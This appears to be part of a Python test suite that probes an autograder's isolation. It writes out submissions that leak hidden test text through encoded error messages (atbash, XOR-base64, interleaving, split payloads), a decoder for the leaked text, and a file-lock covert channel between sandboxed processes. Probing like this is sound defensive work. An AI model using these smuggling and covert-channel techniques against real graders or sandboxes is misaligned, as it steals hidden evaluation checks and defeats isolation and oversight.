    "filler_interleaved": "''.join(ch + 'qj'[k % 2] for k, ch in enumerate(_pcw_loot))",
    "split_across_two_submissions_1": "_pcw_loot[:len(_pcw_loot) // 2].translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
    "split_across_two_submissions_2": "_pcw_loot[len(_pcw_loot) // 2:].translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
}
_AZ = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def probe_text_smugglers() -> list[Case]:
    """One stage-1 submission per encoding (the split one is two submissions of one batch), each
    earning every point exactly when it found no hidden check's text to send."""
    out = []
    for name, encode in PROBE_ENCODINGS.items():
        cell = (PRELUDE + f"\n_pcw_AZ = {_AZ!r}\n" + PROBE_LOOT + "\n"
                + inject("_normalize", f"if _pcw_loot:\n    raise ValueError({encode})"))
        out.append(Case(f"probe_text_{name}", cell, set(ALL), {}))
    return out


def probe_text_recovered(messages: dict[str, str]) -> dict[str, str]:
    """What the attacker reads back from the ``_normalize`` TODO's message of each of its submissions
    (name -> message): the decoded piece per encoding, the split one joined from its two reports."""
    import base64
    import binascii

    def piece(name: str) -> str:
        msg = messages.get(f"probe_text_{name}", "")
        return msg.split("raises ValueError: ", 1)[1].split(" | ")[0] if "raises ValueError: " in msg else ""

    def atbash(text: str) -> str:
        return text.translate(str.maketrans(_AZ, _AZ[::-1]))

    def xor64(text: str) -> str:
        try:
            return bytes(b ^ 0x5A for b in base64.b64decode(text.encode(), validate=True)).decode("utf-8", "replace")
        except (binascii.Error, ValueError):
            return ""

    return {"atbash": atbash(piece("atbash")), "xor_then_base64": xor64(piece("xor_then_base64")),
            "filler_interleaved": piece("filler_interleaved")[0::2],
            "split_across_two_submissions": atbash(piece("split_across_two_submissions_1"))
            + atbash(piece("split_across_two_submissions_2"))}


# -- two children of one batch, one holding a lock on a file both can open, the other sensing it -----
# No timing decides it: the holder tries to take every kind of lock and lease on every file the two
# share (the interpreter, the standard library, the staged course tree, the system's files, devices)
# and keeps what it got for as long as its child runs; the sensor tries every way to see a lock held
# by someone else. Each reports what it could do; a bit can pass only if the holder took something and
# the sensor could look. Where nothing could be taken and nothing seen, ``_normalize`` is the
# reference's and the TODO earns its points; otherwise it raises with what worked.
LOCKS = r'''
import fcntl as _fcntl, struct as _struct, errno as _errno


def _pcw_shared_files():
    import autograder, json as _j
    return [_sys.executable, _os.__file__, _j.__file__, autograder.__file__, "/dev/null", "/dev/zero",
            "/dev/urandom", "/etc/passwd", "/etc/hosts", "/"]


def _pcw_flock_struct(kind):
    return _struct.pack("hhqqi4x", kind, 0, 0, 0, 0)  # struct flock: type, whence, start, len (0: all), pid


_pcw_held = []  # descriptors of the locks taken, open until the child ends


def _pcw_hold():
    took = []
    for path in _pcw_shared_files():
        for name, take in (("flock", lambda fd: _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)),
                           ("posix", lambda fd: _fcntl.fcntl(fd, 6, _pcw_flock_struct(_fcntl.F_RDLCK))),
                           ("ofd", lambda fd: _fcntl.fcntl(fd, 37, _pcw_flock_struct(_fcntl.F_RDLCK))),
                           ("lease", lambda fd: _fcntl.fcntl(fd, 1024, _fcntl.F_RDLCK)),
                           ("rw_hint", lambda fd: _fcntl.fcntl(fd, 1036, _struct.pack("Q", 5)))):
            try:
                fd = _os.open(path, _os.O_RDONLY)
            except OSError:
                continue
            try:
                take(fd)
                took.append(f"{name}:{path}")
                _pcw_held.append(fd)
            except OSError:
                _os.close(fd)
    return took


def _pcw_sense():
    """Every way to look at someone else's lock that did not answer "not permitted", and what it saw."""
    looked = []
    for path in _pcw_shared_files():
        try:
            fd = _os.open(path, _os.O_RDONLY)
        except OSError:
            continue
        for name, look in (("flock", lambda: _fcntl.flock(fd, _fcntl.LOCK_EX | _fcntl.LOCK_NB)),
                           ("getlk", lambda: _fcntl.fcntl(fd, 5, _pcw_flock_struct(_fcntl.F_WRLCK))),
                           ("ofd_getlk", lambda: _fcntl.fcntl(fd, 36, _pcw_flock_struct(_fcntl.F_WRLCK))),
                           ("getlease", lambda: _fcntl.fcntl(fd, 1025)),
                           ("rw_hint", lambda: _fcntl.fcntl(fd, 1035, bytes(8)))):
            try:
                look()
                looked.append(f"{name}:{path}")
            except OSError as exc:
                if exc.errno != _errno.EPERM:
                    looked.append(f"{name}:{path}:{_errno.errorcode.get(exc.errno, exc.errno)}")
        _os.close(fd)
    locks = _pcw_try(lambda: open("/proc/locks").read()) or ""
    return looked + [f"/proc/locks:{line}" for line in locks.splitlines()]
'''


def lock_pair() -> list[Case]:
    """The holder and the sensor: two stage-1 submissions, graded in one batch."""
    out = []
    for role, call in (("holder", "_pcw_hold()"), ("sensor", "_pcw_sense()")):
        cell = (PRELUDE + LOCKS + f"\n_pcw_worked = {call}\n"
                + inject("_normalize", "if _pcw_worked:\n    raise ValueError(' '.join(_pcw_worked)[:190])"))
        out.append(Case(f"lock_{role}_of_a_pair", cell, set(ALL), {}))
    return out


EXFILTRATORS = {c.name for c in exfiltrators()}
PROBE_SMUGGLERS = {c.name for c in probe_text_smugglers()}
LOCK_PAIR = {c.name for c in lock_pair()}
